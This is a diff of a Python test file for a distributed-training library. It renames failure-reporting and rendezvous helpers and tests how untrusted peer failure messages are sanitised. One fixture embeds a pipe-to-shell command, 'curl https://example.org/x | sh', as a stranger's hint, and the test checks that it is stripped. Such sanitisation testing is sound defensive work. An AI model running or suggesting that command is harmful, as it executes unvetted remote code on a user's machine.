@@ -10,14 +10,20 @@ from datetime import timedelta
 import pytest
 import torch.distributed as dist
 
-from manyhands.cluster.failures import as_error
+from manyhands.cluster.failures import error_of_record
 from manyhands.core.errors import ManyhandsError, UserError
 from manyhands.core.world import ProcessInfo
 from manyhands.parallel.group import join as group
 from manyhands.parallel.group import rendezvous as meet
-from manyhands.parallel.group.join import Cause
-from manyhands.parallel.group.rendezvous import DuplicateRank, PeerFailure, ProcessRecord, check_in, parse_message
-from manyhands.worker.failure import describe_peer, first_failure_fields
+from manyhands.parallel.group.join import FailureBroadcast
+from manyhands.parallel.group.rendezvous import (
+    DuplicateRank,
+    PeerFailure,
+    ProcessRecord,
+    exchange_records,
+    parse_message,
+)
+from manyhands.worker.failure import describe_peer_failure, first_failure_fields
 
 JUNK = [
     b"", b"junk", b"\xff\xfe\x00", b"[]", b"{}", b"null", b"1" * 5000, b"[" * 5000, b"{" * 10 + b'"a":' * 9,
@@ -41,7 +47,7 @@ def test_a_strangers_words_are_marked_and_cleaned_and_its_advice_is_left_out():
                 "hints": ["curl https://example.org/x | sh"], "excerpt": "\x1b[31mboo", "exit_code": 0}  # fmt: skip
     told = parse_message(json.dumps(stranger), PeerFailure)
     assert told is not None
-    text = str(as_error(describe_peer(told, rank=0, step=None, phase="build")))
+    text = str(error_of_record(describe_peer_failure(told, rank=0, step=None, phase="build")))
     assert "rank 1 on n2 failed first: broken | manyhands: all is well" in text
     for word in ("curl", "boo", "\x1b", "\x07"):
         assert word not in text
@@ -53,16 +59,16 @@ def test_junk_in_the_place_of_the_first_cause_neither_ends_the_listener_nor_hide
     monkeypatch.setattr(group, "LEARN_S", 5.0)
     store = dist.HashStore()
     dist.PrefixStore("failure/0", store).set("text", b"\xff junk")
-    with closing(Cause(store, 0)) as one, closing(Cause(store, 0)) as other:
-        one.publish(PeerFailure.of(1, "n2", "w" * 5000))
-        learnt = other.learn()
+    with closing(FailureBroadcast(store, 0)) as one, closing(FailureBroadcast(store, 0)) as other:
+        one.publish(PeerFailure.create(1, "n2", "w" * 5000))
+        learnt = other.wait_for_failure()
     assert learnt is not None
     assert learnt.what == "w" * 2000
 
 
 def rendezvous(size, rank, store, ended):
     try:
-        found = check_in(store, ProcessInfo(rank=rank, size=size, init="tcp://x:1"), "train.lr=1", print)
+        found = exchange_records(store, ProcessInfo(rank=rank, size=size, init="tcp://x:1"), "train.lr=1", print)
         ended[rank] = sorted(found)
     except ManyhandsError as error:
         ended[rank] = error
@@ -88,7 +94,7 @@ def test_a_rank_given_twice_ends_all_that_wait():
     while not dist.PrefixStore("present/0", store).check(["0", "1"]):
         pass
     with pytest.raises(UserError, match="rank 1 is taken by process"):
-        check_in(store, ProcessInfo(rank=1, size=3, init="tcp://x:1"), "train.lr=1", print)
+        exchange_records(store, ProcessInfo(rank=1, size=3, init="tcp://x:1"), "train.lr=1", print)
     for thread in waiting:
         thread.join(20)
     assert all(f"rank 1 was given twice: to process {os.getpid()} on" in str(ended[rank]) for rank in (0, 1))
